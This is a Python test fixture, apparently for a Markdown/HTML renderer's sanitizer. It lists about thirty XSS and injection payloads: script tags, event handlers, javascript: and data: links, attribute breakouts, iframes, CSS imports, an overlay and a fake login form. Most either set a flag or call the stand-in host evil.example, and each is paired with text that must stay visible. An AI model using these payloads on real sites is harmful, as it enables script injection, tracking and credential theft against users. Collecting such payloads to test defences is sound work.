"""Texts that try to run, to fetch, to cover the page or to send something.

What succeeds sets `window.hacked`, or asks `evil.example` for something. Beside each text is a part
that a reader must still see.
"""

RUN = "window.hacked=1"
OUT = "http://evil.example"
TEXTS: dict[str, tuple[str, str]] = {
    "script": (f"<script>{RUN}</script>", "<script>"),
    "script from outside": (f'<script src="{OUT}/a.js"></script>', "<script src="),
    "end of the page's script": (f"</script><script>{RUN}</script>", "</script><script>"),
    "end of a field": (f"</textarea></title></style><img src=x onerror={RUN}>", "</textarea>"),
    "handler": (f"<img src=x onerror={RUN}>", "onerror="),
    "handler without blanks": (f"<svg/onload={RUN}><circle r=9 /></svg>", "<svg/onload"),
    "handler in a focus": (f"<input autofocus onfocus={RUN}>", "autofocus"),
    "handler in details": (f"<details open ontoggle={RUN}>x</details>", "ontoggle"),
    "picture": (f"![seen]({OUT}/a.png)", "seen"),
    "picture in a link": (f"[![seen]({OUT}/b.png)]({OUT}/c)", "seen"),
    "picture by reference": (f"![seen][r]\n\n[r]: {OUT}/d.png", "seen"),
    "picture with a title": (f'![seen](<{OUT}/e.png> "t")', "seen"),
    "picture in HTML": (f'<img src="{OUT}/f.png"><picture><source srcset="{OUT}/g">', "srcset"),
    "picture in a table": (f"|a|\n|-|\n|![seen]({OUT}/h.png)|", "seen"),
    "style sheet": (f"<style>@import url({OUT}/a.css); body{{display:none}}</style>", "@import"),
    "style sheet by link": (f'<link rel=stylesheet href="{OUT}/b.css">', "rel=stylesheet"),
    "style": (f'<p style="background:url({OUT}/i.png)">x</p>', "background:url"),
    "overlay": ('<div style="position:fixed;inset:0;z-index:9999">x</div>', "position:fixed"),
    "form": (f'<form action="{OUT}/s"><button>Log in</button></form>', "Log in"),
    "frame": (f'<iframe src="{OUT}/page" srcdoc="<script>parent.{RUN}</script>">', "<iframe"),
    "object": (f'<object data="{OUT}/o"></object><embed src="{OUT}/e">', "<object"),
    "video": (f'<video src="{OUT}/v" autoplay><audio src="{OUT}/w" autoplay>', "<video"),
    "base and refresh": (f'<base href="{OUT}/"><meta http-equiv=refresh content=0>', "<base"),
    "javascript link": (f"[seen](javascript:{RUN}) [x](JaVaScript&#58;{RUN})", "seen"),
    "data link": (f"[seen](data:text/html,<script>{RUN}</script>)", "seen"),
    "link out of its attribute": (f'[seen]({OUT}/"onmouseover="{RUN})', "seen"),
    "formula": (
        rf"$\href{{javascript:{RUN}}}{{x}}$ $\text{{<img src=x onerror={RUN}>}}$",
        "onerror",
    ),
    "code": (f"```html\n<img src={OUT}/j.png onerror={RUN}>\n```", "onerror"),
    "fence with a name": (f'```"><img/src={OUT}/k.png/onerror={RUN}>\nx\n```', "x"),
    "template": ("{{ 7 * 191 }} ${7 * 191} {% raw %} <%= 7 * 191 %>", "{{ 7 * 191 }}"),
}
